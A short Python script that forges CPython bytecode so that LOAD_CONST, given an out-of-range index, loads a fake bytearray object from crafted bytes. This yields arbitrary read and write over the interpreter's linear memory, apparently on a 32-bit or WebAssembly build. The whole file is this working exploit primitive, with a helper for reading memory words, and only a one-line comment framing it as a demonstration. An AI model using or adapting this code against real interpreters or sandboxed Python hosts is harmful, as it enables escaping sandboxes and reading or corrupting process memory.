# Reads and writes any address of linear memory, from Python alone: LOAD_CONST trusts its argument, so that a made-up
# index takes a made-up object out of bytes that look like one. This is what a compromised interpreter can do.
import dis
import struct


def _load_index():
    return None


def _made_up_object(content):
    code = _load_index.__code__.replace(co_consts=(None, "x"))
    pointer = struct.pack("<I", id(content) + bytes.__basicsize__ - 1)
    slot = id(pointer) + bytes.__basicsize__ - 1
    index = ((slot - (id(code.co_consts) + tuple.__basicsize__)) % (1 << 32)) >> 2
    ops = dis.opmap
    words = [(ops["RESUME"], 0)]
    words += [(ops["EXTENDED_ARG"], (index >> shift) & 0xFF) for shift in (24, 16, 8)]
    words += [(ops["LOAD_CONST"], index & 0xFF), (ops["RETURN_VALUE"], 0)]
    made = code.replace(co_code=bytes(byte for word in words for byte in word))
    assert made.co_consts is code.co_consts
    kept.extend((content, pointer, made))
    return type(_load_index)(made, {})()


kept = []
_size = 0x7FFF_FFFF
# refcount, type, size, allocated, bytes, start, exports
memory = _made_up_object(struct.pack("<7I", 1 << 20, id(bytearray), _size, _size, 0, 0, 0) + bytes(16))


def word(address):
    return int.from_bytes(memory[address : address + 4], "little")
